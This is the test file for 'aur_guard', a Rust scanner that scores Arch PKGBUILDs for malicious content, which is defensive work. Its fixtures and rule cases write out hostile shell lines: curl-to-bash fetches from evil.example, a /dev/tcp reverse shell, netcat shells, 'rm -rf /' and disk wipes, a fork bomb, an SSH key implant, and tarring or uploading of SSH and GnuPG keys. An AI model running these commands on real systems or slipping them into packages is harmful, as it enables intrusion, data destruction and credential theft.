use aur_guard::checks::byte_offset_to_line;
use aur_guard::checks::check_skip_checksums;
use aur_guard::checks::check_source_array;
use aur_guard::checks::check_url_vs_sources;
use aur_guard::checks::owner;
use aur_guard::checks::source_identity;
use aur_guard::checks::strip_vcs_prefix;
use aur_guard::patterns::build_rules;
use aur_guard::report::ScanResult;
use aur_guard::report::Severity;
use aur_guard::report::Tier;
use aur_guard::rpc::reputation_rules;
use aur_guard::scanner::metadata_rules;
use aur_guard::scanner::scan_pkgbuild_bundle;
use aur_guard::scanner::scan_text;
use aur_guard::scanner::InstallFile;
use aur_guard::scriptlets::gather_scriptlets;
use aur_guard::scriptlets::is_scriptlet;
use aur_guard::scriptlets::FoundFile;

fn chars(s: &str) -> Vec<char> {
    s.chars().collect()
}

fn ids(r: &ScanResult) -> Vec<&'static str> {
    r.findings.iter().map(|f| f.rule_id).collect()
}

fn ids_on(line: &str) -> Vec<&'static str> {
    ids(&scan_text(line, "t".to_string()))
}

const BENIGN: &str = "# Maintainer: A. Person\npkgname=demo\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/demo\"\nsource=(\"https://example.org/demo-1.0.tar.gz\")\nsha256sums=('0123456789abcdef')\n\nbuild() {\n  cd demo-1.0\n  make\n}\n\npackage() {\n  make DESTDIR=\"$pkgdir\" install\n}\n";

const MALICIOUS: &str = "pkgname=demo\npkgver=1.0\nsource=('http://evil.example/demo.tar.gz')\nsha256sums=('SKIP')\nbuild() {\n  curl -s https://evil.example/x.sh | bash\n}\n";

#[test]
fn benign_pkgbuild_is_trusted() {
    let r = scan_text(BENIGN, "PKGBUILD".to_string());
    assert!(r.is_clean());
    assert_eq!(r.score, 100);
    assert_eq!(r.tier, Tier::Trusted);
    assert_eq!(r.override_gate_fired, None);
    assert_eq!(r.lines_scanned, 17);
    assert_eq!(r.path, "PKGBUILD");
}

#[test]
fn malicious_pkgbuild_fires_a_gate() {
    let r = scan_text(MALICIOUS, "PKGBUILD".to_string());
    assert_eq!(r.score, 0);
    assert_eq!(r.tier, Tier::Malicious);
    assert_eq!(r.override_gate_fired, Some("AG001"));
    assert_eq!(ids(&r), vec!["AG001", "AG080", "AG081"]);
    assert_eq!(r.findings[0].line, 6);
    assert_eq!(r.findings[0].snippet, "curl -s https://evil.example/x.sh | bash");
    assert_eq!(r.findings[0].points, 95);
    assert!(!r.findings[0].is_new);
    assert!(r.findings[0].source_file.is_none());
}

#[test]
fn rule_set_is_complete() {
    let rules = build_rules();
    assert_eq!(rules.len(), 29);
    let gates: Vec<&str> = rules.iter().filter(|r| r.override_gate).map(|r| r.id).collect();
    assert_eq!(
        gates,
        vec![
            "AG001", "AG002", "AG003", "AG010", "AG011", "AG020", "AG021", "AG022", "AG023",
            "AG050", "AG051"
        ]
    );
    for r in &rules {
        assert!(r.points == 95 || r.points == 75 || r.points == 50);
    }
    assert_eq!(rules[0].title, "Descarga remota canalizada a un shell");
    assert_eq!(rules[0].severity(), Severity::Critical);
    assert_eq!(rules[3].severity(), Severity::High);
    assert_eq!(rules[28].id, "AG072");
    assert_eq!(rules[28].points, 50);
    assert_eq!(rules[28].severity(), Severity::Medium);
    assert!(rules[0].regex.is_match("wget -qO- https://x.example/i | sudo sh"));
    assert!(!rules[0].regex.is_match("curl -O https://x.example/i"));
}

#[test]
fn every_rule_finds_its_pattern() {
    let long = format!("data=\"{}\"", "A".repeat(120));
    let cases: Vec<(&str, &str)> = vec![
        ("AG001", "curl -sL https://x.example/i.sh | sh"),
        ("AG002", "bash <(curl -s https://x.example/i.sh)"),
        ("AG003", "eval \"$(wget -qO- x.example)\""),
        ("AG004", "source https://x.example/env.sh"),
        ("AG010", "nc -e /bin/sh 4444"),
        ("AG011", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        ("AG012", "python3 -c 'import socket;s.connect()'"),
        ("AG013", "perl -e 'use socket;exec sh'"),
        ("AG020", "rm -rf / "),
        ("AG021", "dd if=/dev/zero of=/dev/sda"),
        ("AG022", "mkfs.ext4 /dev/sda1"),
        ("AG023", ":(){ :|:& };:"),
        ("AG030", "cat k >> ~/.ssh/authorized_keys"),
        ("AG031", "printf x >> $HOME/.bashrc"),
        ("AG032", "printf x | crontab -"),
        ("AG033", "systemctl enable evil.service"),
        ("AG034", "useradd evil"),
        ("AG040", "sudo make install"),
        ("AG041", "chmod 4755 bin"),
        ("AG042", "setcap cap_net_admin+ep bin"),
        ("AG050", "base64 -d payload | bash"),
        ("AG051", "xxd -r -p payload | sh"),
        ("AG052", long.as_str()),
        ("AG060", "wget http://10.0.0.1/x"),
        ("AG061", "x=https://bit.ly/abc"),
        ("AG062", "ngrok http 80"),
        ("AG070", "tar c ~/.ssh/id_rsa"),
        ("AG071", "tar c $HOME/.gnupg"),
        ("AG072", "curl -d @f https://x.example/up"),
    ];
    assert_eq!(cases.len(), 29);
    for (id, line) in cases {
        assert!(ids_on(line).contains(&id), "{} on {}", id, line);
    }
}

#[test]
fn commented_payload_is_still_flagged() {
    assert_eq!(ids_on("# curl https://x.example | bash"), vec!["AG001"]);
}

#[test]
fn sudo_in_a_comment_is_not_flagged() {
    assert!(ids_on("# sudo make install").is_empty());
    assert_eq!(ids_on("  sudo make install"), vec!["AG040"]);
}

#[test]
fn lines_are_numbered_from_one_and_carriage_returns_dropped() {
    let r = scan_text("a\r\n  useradd evil  \r\nb", "t".to_string());
    assert_eq!(r.lines_scanned, 3);
    assert_eq!(r.findings.len(), 1);
    assert_eq!(r.findings[0].line, 2);
    assert_eq!(r.findings[0].snippet, "useradd evil");
    assert_eq!(r.score, 25);
    assert_eq!(r.tier, Tier::Suspicious);
}

#[test]
fn empty_text_is_clean() {
    let r = scan_text("", "t".to_string());
    assert_eq!(r.lines_scanned, 0);
    assert_eq!(r.score, 100);
    assert!(r.is_clean());
}

#[test]
fn long_snippet_is_cut_between_characters() {
    let line = format!("useradd {}é tail", "x".repeat(231));
    let r = scan_text(&line, "t".to_string());
    assert_eq!(r.findings[0].snippet, format!("useradd {}…", "x".repeat(231)));
    let fits = format!("useradd {}", "x".repeat(232));
    assert_eq!(scan_text(&fits, "t".to_string()).findings[0].snippet, fits);
}

#[test]
fn all_skip_is_reported_once() {
    let text = "\nsha256sums=('SKIP'\n  \"skip\")\nsha256sums_x86_64=('SKIP')\n";
    let f = check_skip_checksums(text);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule_id, "AG080");
    assert_eq!(f[0].points, 50);
    assert_eq!(f[0].title, "All checksums are SKIP");
    // The match takes in the blank line before the array.
    assert_eq!(f[0].line, 1);
    assert_eq!(f[0].snippet, "");
}

#[test]
fn skip_on_the_first_line_is_shown() {
    let f = check_skip_checksums("b2sums=(SKIP,\n SKIP)");
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].line, 1);
    assert_eq!(f[0].snippet, "b2sums=(SKIP,");
}

#[test]
fn one_checksum_is_enough() {
    assert!(check_skip_checksums("sha256sums=('SKIP' 'abc')").is_empty());
    assert!(check_skip_checksums("sha256sums=()").is_empty());
    assert!(check_skip_checksums("pkgname=demo").is_empty());
    let second = check_skip_checksums("md5sums=('abc')\nsha1sums=('SKIP')");
    assert_eq!(second.len(), 1);
    assert_eq!(second[0].line, 2);
}

#[test]
fn plain_sources_are_reported() {
    let text = "pkgname=x\nsource=('a::http://h.example/a' \"ftp://h.example/b\"\n  git+http://h.example/c git+https://h.example/d #http://h.example/e)\n";
    let f = check_source_array(text);
    let got: Vec<(&str, usize, &str)> =
        f.iter().map(|x| (x.rule_id, x.line, x.snippet.as_str())).collect();
    assert_eq!(
        got,
        vec![
            ("AG081", 2, "http://h.example/a"),
            ("AG081", 2, "ftp://h.example/b"),
            ("AG082", 2, "git+http://h.example/c"),
        ]
    );
    assert_eq!(f[0].points, 35);
    assert_eq!(f[2].points, 35);
    assert!(check_source_array("source=('https://h.example/a')").is_empty());
}

#[test]
fn foreign_sources_are_reported() {
    let text = "url='https://github.com/good/tool'\nsource=('git+https://github.com/evil/tool.git'\n 'https://github.com/Good/tool/x' 'local.patch')\nsource_aarch64=('https://dl.good.example/x')\n";
    let f = check_url_vs_sources(text);
    assert_eq!(f.len(), 2);
    assert_eq!(f[0].rule_id, "AG083");
    assert_eq!(f[0].points, 50);
    assert_eq!(f[0].line, 2);
    assert_eq!(
        f[0].snippet,
        "source=git+https://github.com/evil/tool.git  vs  url=https://github.com/good/tool"
    );
    assert_eq!(f[1].line, 4);
}

#[test]
fn no_upstream_no_mismatch() {
    assert!(check_url_vs_sources("source=('https://a.example/x')").is_empty());
    assert!(check_url_vs_sources("url=https://www.a.example\nsource=('https://dl.a.example/x')")
        .is_empty());
}

#[test]
fn identity_of_urls() {
    let id = |s: &str| source_identity(&chars(s));
    assert_eq!(id("https://GitHub.com/Org/repo"), Some("github.com/org".to_string()));
    assert_eq!(id("https://gitlab.com"), Some("gitlab.com".to_string()));
    assert_eq!(id("https://codeberg.org/"), Some("codeberg.org".to_string()));
    assert_eq!(id("https://bitbucket.org/a/b"), Some("bitbucket.org/a".to_string()));
    assert_eq!(id("https://dl.sub.example.org:8080/x"), Some("example.org".to_string()));
    assert_eq!(id("localhost/x"), Some("localhost".to_string()));
    assert_eq!(id("https:///x"), None);
    assert_eq!(id(""), None);
    assert_eq!(id("https://DL.ÄRGER.example/x"), Some("ärger.example".to_string()));
}

#[test]
fn identity_ignores_case_and_the_further_path() {
    let id = |s: &str| source_identity(&chars(s));
    assert_eq!(id("HTTPS://GitHub.COM/Org/a"), id("https://github.com/org/b/c/d"));
    assert_eq!(id("https://DL.example.ORG:80/x"), id("https://dl.Example.org:80/x/y/z"));
    assert_ne!(id("https://github.com/org/a"), id("https://github.com/other/a"));
}

#[test]
fn findings_are_on_lines_of_the_text() {
    let text = "# é\nsource=('http://a.example/x'\n 'http://b.example/y')\nurl=https://c.example\nuseradd x\nmd5sums=(SKIP)\n";
    let r = scan_text(text, "t".to_string());
    assert_eq!(r.lines_scanned, 6);
    assert_eq!(r.findings.len(), 6);
    assert!(r.findings.iter().all(|f| 1 <= f.line && f.line <= 6));
}

#[test]
fn checks_keep_lockstep_with_their_rules() {
    let text = "url=https://c.example\nsource=('http://a.example/x' git+http://b.example/y)\nmd5sums=(SKIP)\n";
    let mut found = check_skip_checksums(text);
    found.extend(check_source_array(text));
    found.extend(check_url_vs_sources(text));
    let rules = metadata_rules();
    for f in &found {
        let listed: Vec<_> = rules.iter().filter(|r| r.id == f.rule_id).collect();
        assert_eq!(listed.len(), 1);
        assert_eq!(
            (listed[0].points, listed[0].override_gate, listed[0].title),
            (f.points, f.override_gate, f.title)
        );
    }
    for r in &rules {
        assert!(found.iter().any(|f| f.rule_id == r.id));
    }
}

#[test]
fn owners_of_hosts() {
    let of = |host: &str, org: &str| owner(&chars(host), &chars(org));
    assert_eq!(of("", "x"), None);
    assert_eq!(of("github.com", "org"), Some("github.com/org".to_string()));
    assert_eq!(of("github.com", ""), Some("github.com".to_string()));
    assert_eq!(of("dl.example.org", "org"), Some("example.org".to_string()));
    assert_eq!(of("a.", "x"), Some("a.".to_string()));
    assert_eq!(of("host", "x"), Some("host".to_string()));
}

#[test]
fn vcs_prefixes_are_stripped() {
    let strip = |s: &str| -> String { strip_vcs_prefix(&chars(s)).iter().collect() };
    assert_eq!(strip("git+https://a"), "https://a");
    assert_eq!(strip("svn+x"), "x");
    assert_eq!(strip("hg+x"), "x");
    assert_eq!(strip("bzr+x"), "x");
    assert_eq!(strip("fossil+x"), "x");
    assert_eq!(strip("https://a"), "https://a");
    assert_eq!(strip("git+svn+x"), "svn+x");
}

#[test]
fn byte_offsets_give_lines() {
    assert_eq!(byte_offset_to_line("a\nb\nc", 0), 1);
    assert_eq!(byte_offset_to_line("a\nb\nc", 2), 2);
    assert_eq!(byte_offset_to_line("é\nb", 3), 2);
    assert_eq!(byte_offset_to_line("a\nb\n", 99), 3);
}

#[test]
fn offsets_in_bytes_reach_the_right_line() {
    let f = check_source_array("# éééé\n# üüüü\nsource=(http://h.example/a)");
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].line, 3);
}

#[test]
fn scriptlets_count_for_the_whole() {
    let installs = vec![
        InstallFile { name: "a.install".to_string(), content: "useradd evil\n".to_string() },
        InstallFile { name: "b.install".to_string(), content: "rm -rf / \nok\n".to_string() },
    ];
    let r = scan_pkgbuild_bundle("/p/PKGBUILD".to_string(), BENIGN, &installs);
    assert_eq!(r.path, "/p/PKGBUILD");
    assert_eq!(r.lines_scanned, 20);
    assert_eq!(ids(&r), vec!["AG020", "AG034"]);
    assert_eq!(r.findings[0].source_file, Some("b.install".to_string()));
    assert_eq!(r.findings[1].source_file, Some("a.install".to_string()));
    assert_eq!(r.tier, Tier::Malicious);
    assert_eq!(r.score, 0);
    assert_eq!(r.override_gate_fired, Some("AG020"));
}

#[test]
fn bundle_without_scriptlets_is_its_pkgbuild() {
    let a = scan_pkgbuild_bundle("p".to_string(), MALICIOUS, &Vec::new());
    let b = scan_text(MALICIOUS, "p".to_string());
    assert_eq!(ids(&a), ids(&b));
    assert_eq!((a.score, a.tier, a.lines_scanned), (b.score, b.tier, b.lines_scanned));
}

#[test]
fn metadata_rules_are_listed() {
    let rules = metadata_rules();
    let got: Vec<(&str, u32, bool)> =
        rules.iter().map(|r| (r.id, r.points, r.override_gate)).collect();
    assert_eq!(
        got,
        vec![
            ("AG080", 50, false),
            ("AG081", 35, false),
            ("AG082", 35, false),
            ("AG083", 50, false),
        ]
    );
    assert_eq!(rules[2].description, "git+http does not authenticate the server.");
}

#[test]
fn every_rule_has_an_id_of_its_own() {
    let mut ids: Vec<&str> = build_rules().iter().map(|r| r.id).collect();
    ids.extend(metadata_rules().iter().map(|r| r.id));
    ids.extend(reputation_rules().iter().map(|r| r.id));
    assert_eq!(ids.len(), 38);
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 38);
}

fn found(name: &str, content: &str) -> FoundFile {
    FoundFile {
        raw_name: name.as_bytes().to_vec(),
        name: Some(name.to_string()),
        content: content.to_string(),
    }
}

#[test]
fn scriptlet_names() {
    assert!(is_scriptlet(b"demo.install"));
    assert!(is_scriptlet(b"demo.bar.install"));
    assert!(is_scriptlet(b"..install"));
    assert!(!is_scriptlet(b".install"));
    assert!(!is_scriptlet(b"install"));
    assert!(!is_scriptlet(b"demo.installs"));
    assert!(!is_scriptlet(b"PKGBUILD"));
}

#[test]
fn scriptlets_come_in_the_order_of_their_names() {
    let a = vec![found("b.install", "B"), found("PKGBUILD", "P"), found("a.install", "A")];
    let b = vec![found("PKGBUILD", "P"), found("a.install", "A"), found("b.install", "B")];
    for files in [a, b] {
        let got = gather_scriptlets(&files);
        let pairs: Vec<(&str, &str)> =
            got.iter().map(|f| (f.name.as_str(), f.content.as_str())).collect();
        assert_eq!(pairs, vec![("a.install", "A"), ("b.install", "B")]);
    }
}

#[test]
fn scriptlet_with_a_strange_name() {
    let f = FoundFile {
        raw_name: b"\xff.install".to_vec(),
        name: None,
        content: "x".to_string(),
    };
    let got = gather_scriptlets(&vec![f, found("zz.install", "z")]);
    assert_eq!(got[0].name, "zz.install");
    assert_eq!(got[1].name, "?.install");
}
